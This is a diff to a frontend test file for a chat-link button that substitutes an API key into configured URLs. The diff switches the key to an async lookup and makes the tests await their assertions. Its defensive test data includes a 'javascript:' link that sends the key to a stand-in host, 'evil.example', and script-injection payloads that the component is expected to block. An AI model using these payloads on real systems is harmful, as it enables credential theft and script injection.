@@ -6,7 +6,7 @@ import { renderApp } from '../../testing/render-app';
 import { ChatLinkButton } from './chat-link-button';
 
 const key = 'k'.repeat(48);
-const routes = [{ path: '/', element: <ChatLinkButton storedKey={key} /> }];
+const routes = [{ path: '/', element: <ChatLinkButton keyOf={() => Promise.resolve(key)} /> }];
 const render = (status: Record<string, unknown>) => renderApp(routes, { status: { chat_link: '', chat_link2: '', server_address: 'https://api.example.com', ...status } });
 
 describe('the token chat action', () => {
@@ -17,7 +17,7 @@ describe('the token chat action', () => {
     const open = vi.spyOn(window, 'open').mockReturnValue(null);
     render({ chats: [{ Only: 'https://chat.example/?key={key}' }] });
     fireEvent.click(await screen.findByTestId('token-chat'));
-    expect(open).toHaveBeenCalledWith(`https://chat.example/?key=sk-${key}`, '_blank', 'noopener,noreferrer');
+    await vi.waitFor(() => expect(open).toHaveBeenCalledWith(`https://chat.example/?key=sk-${key}`, '_blank', 'noopener,noreferrer'));
   });
 
   it('offers a dropdown when several are configured', async () => {
@@ -25,7 +25,7 @@ describe('the token chat action', () => {
     render({ chats: [{ One: 'https://one.example/{key}' }, { Two: 'https://two.example/{key}' }] });
     fireEvent.click(await screen.findByTestId('token-chat'));
     fireEvent.click(await screen.findByText('Two'));
-    expect(open).toHaveBeenCalledWith(`https://two.example/sk-${key}`, '_blank', 'noopener,noreferrer');
+    await vi.waitFor(() => expect(open).toHaveBeenCalledWith(`https://two.example/sk-${key}`, '_blank', 'noopener,noreferrer'));
   });
 
   it.each(['javascript:fetch("//evil.example/?k={key}")', ' JavaScript:alert("{key}")', 'data:text/html,<script>alert("{key}")</script>'])(
@@ -35,6 +35,7 @@ describe('the token chat action', () => {
       const error = vi.spyOn(toast, 'error');
       render({ chats: [{ Evil: link }] });
       fireEvent.click(await screen.findByTestId('token-chat'));
+      await vi.waitFor(() => expect(error).toHaveBeenCalled());
       expect(open).not.toHaveBeenCalled();
       expect(error).toHaveBeenCalledWith(
         'This chat link uses an unsafe scheme (javascript:, data:, vbscript: or file:) and was not opened; please contact the administrator',
